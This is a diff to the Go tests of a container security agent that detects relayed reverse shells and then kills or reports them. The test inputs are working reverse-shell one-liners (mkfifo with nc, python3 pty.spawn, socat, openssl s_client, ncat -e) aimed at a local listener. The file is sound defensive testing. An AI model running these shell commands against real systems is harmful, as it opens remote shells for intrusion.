@@ -8,8 +8,11 @@ import (
 	"crypto/x509"
 	"crypto/x509/pkix"
 	"fmt"
+	"io"
 	"math/big"
 	"net"
+	"net/http"
+	"net/http/httptest"
 	"strconv"
 	"strings"
 	"sync"
@@ -17,20 +20,22 @@ import (
 	"time"
 )
 
-// Relayed shells (need relayed-shell detection): the shell's stdio is a
-// pipe, a fifo or a pty; its parent (ncat -e, python3 pty.spawn, socat) or
-// a sibling in the same pipeline (mkfifo + nc, openssl s_client) holds the
-// INET socket and relays. shell is left empty: which exec the detection
-// kills (and the path it reports) is for it to decide.
+// Relayed shells: the shell's stdio is a pipe, a fifo or a pty; its parent
+// (ncat -e, python3 pty.spawn, socat) or a sibling in the same pipeline
+// (mkfifo + nc, openssl s_client) holds the INET socket and relays. The
+// relay point recognises the pair at whichever comes second: the shell's
+// exec (killed before its first instruction) or the peer's connect
+// (refused; the agent kills the shell). Where the order is a race, the
+// connection may or may not arrive (connects: false).
 
 func TestTechniqueRelayedMkfifoNcat(t *testing.T) {
-	testTechnique(t, technique{name: "tech-fifo-nc", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-fifo-nc", shell: "/bin/sh", relay: true, args: func(port int) []string {
 		return []string{"/bin/sh", "-c", fmt.Sprintf("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 %d > /tmp/f", port)}
 	}})
 }
 
 func TestTechniqueRelayedPython3PtySpawn(t *testing.T) {
-	testTechnique(t, technique{name: "tech-py-pty", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-py-pty", shell: "/bin/sh", relay: true, connects: true, args: func(port int) []string {
 		return []string{"/usr/bin/python3", "-c", fmt.Sprintf(`import socket,os,pty
 s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
 s.connect(("127.0.0.1",%d))
@@ -40,13 +45,13 @@ pty.spawn("/bin/sh")`, port)}
 }
 
 func TestTechniqueRelayedSocatPty(t *testing.T) {
-	testTechnique(t, technique{name: "tech-socat", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-socat", relay: true, args: func(port int) []string {
 		return []string{"/usr/bin/socat", "exec:sh -i,pty,stderr,setsid", "tcp:127.0.0.1:" + strconv.Itoa(port)}
 	}})
 }
 
 func TestTechniqueRelayedOpensslFifo(t *testing.T) {
-	testTechnique(t, technique{name: "tech-openssl", listen: tlsShellListener, connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-openssl", shell: "/bin/sh", relay: true, listen: tlsShellListener, args: func(port int) []string {
 		return []string{"/bin/sh", "-c", fmt.Sprintf("rm -f /tmp/s; mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -no_ign_eof -connect 127.0.0.1:%d > /tmp/s; rm -f /tmp/s", port)}
 	}})
 }
@@ -166,7 +171,46 @@ func (l *tlsListener) WaitConn(timeout time.Duration) bool {
 // ncat -e: the shell's stdin and stdout are pipes; ncat relays them to the
 // socket.
 func TestTechniqueRelayedNcatExec(t *testing.T) {
-	testTechnique(t, technique{name: "tech-ncat-e", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-ncat-e", shell: "/bin/sh", relay: true, connects: true, args: func(port int) []string {
 		return []string{"/usr/bin/ncat", "-e", "/bin/sh", "127.0.0.1", strconv.Itoa(port)}
 	}})
+}
+
+// A relayed shell in a monitor profile: reported at the relay point, not
+// stopped.
+func TestTechniqueMonitorRelayedMkfifo(t *testing.T) {
+	needHostRoot(t)
+	ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
+	args := []string{"/bin/sh", "-c", fmt.Sprintf("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 %d > /tmp/f", ln.Port())}
+	res := runContainer(t, ctrOpts{Name: "tech-monitor-relay", HostRoot: true, Args: args,
+		Annotations: map[string]string{"ocigate.io/profile": "reverse-shell-monitor"}})
+	if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
+		t.Errorf("monitor mode must not stop the shell: listener received %q; %v", ln.Received(), res)
+	}
+	waitEvent(t, res.ID, map[string]any{
+		"process_kprobe.function_name":        "security_bprm_check",
+		"process_kprobe.action":               "KPROBE_ACTION_SIGKILL",
+		"process_kprobe.args.0.file_arg.path": "/bin/sh",
+		"ocigate.container_id":                res.ID,
+		"ocigate.point":                       "relay",
+		"ocigate.mode":                        "monitor",
+		"ocigate.verdict":                     "would-deny",
+		"ocigate.enforced":                    false,
+	})
+	noEvent(t, res.ID, anyEnforced(res.ID))
+}
+
+// A program that connected (an HTTP client) and then runs sh -c on pipes:
+// the shell takes its commands from -c, not from the relay, so it is no
+// relayed shell.
+func TestBenignConnectedParentShellCommand(t *testing.T) {
+	needHostRoot(t)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = io.WriteString(w, "fetched")
+	}))
+	t.Cleanup(srv.Close)
+	benign(t, "benign-connected-sh-c", "fetched via sh", "/usr/bin/python3", "-c", fmt.Sprintf(`import subprocess,sys,urllib.request
+body=urllib.request.urlopen("%s/x", timeout=10).read()
+p=subprocess.run(["/bin/sh","-c","read x; echo $x via sh"],input=body+b"\n",stdout=subprocess.PIPE,check=True)
+sys.stdout.write(p.stdout.decode())`, srv.URL))
 }
